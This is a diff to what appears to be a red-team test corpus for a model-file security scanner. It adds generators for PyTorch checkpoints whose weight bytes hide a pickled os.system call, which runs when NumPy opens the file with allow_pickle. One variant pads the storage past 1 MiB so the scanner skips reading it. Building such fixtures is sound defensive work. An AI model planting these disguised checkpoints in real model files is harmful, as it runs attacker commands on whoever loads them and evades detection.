@@ -129,6 +129,35 @@ def payload_then_garbage_data_pkl(p: Payload) -> bytes:
     return zip_bytes([(n, broken if n.endswith("data.pkl") else d) for n, d in members])
 
 
+def _npy_storage_checkpoint(p: Payload, *, big: bool) -> bytes:
+    import numpy as np
+    import torch
+
+    npy = io.BytesIO()
+    array = np.empty(1, dtype=object)
+    array[0] = Reduce(os.system, p.shell)
+    np.save(npy, array, allow_pickle=True)
+    data = npy.getvalue()
+    if big:  # a stored storage over CRC_SKIP_BYTES: opened without reading it whole
+        data += b"\0" * (2**20 + 4 - len(data) % 4)
+    data += b"\0" * (-len(data) % 4)
+    weight = torch.frombuffer(bytearray(data), dtype=torch.float32).clone().reshape(1, -1)
+    return makers.save({"fc.weight": weight, "fc.bias": torch.zeros(1)})
+
+
+@case("torch/npy_in_a_storage.pt", "red team (issue 15): np.load reads a torch zip as an npz", needs="torch")
+def npy_in_a_storage(p: Payload) -> bytes:
+    """A float32 state dict whose ``fc.weight`` bytes are an object ``.npy``: torch reads floats,
+    ``np.load(allow_pickle=True)`` opens the zip as an npz and unpickles ``archive/data/0``."""
+    return _npy_storage_checkpoint(p, big=False)
+
+
+@case("torch/npy_in_a_large_storage.pt", "red team (issue 15): the same past CRC_SKIP_BYTES", needs="torch")
+def npy_in_a_large_storage(p: Payload) -> bytes:
+    """The same with the storage over 1 MiB, so the scanner never reads it whole."""
+    return _npy_storage_checkpoint(p, big=True)
+
+
 # -- Zip parser differentials (THREATS 2.8, 2.16) ---------------------------------------------
 
 
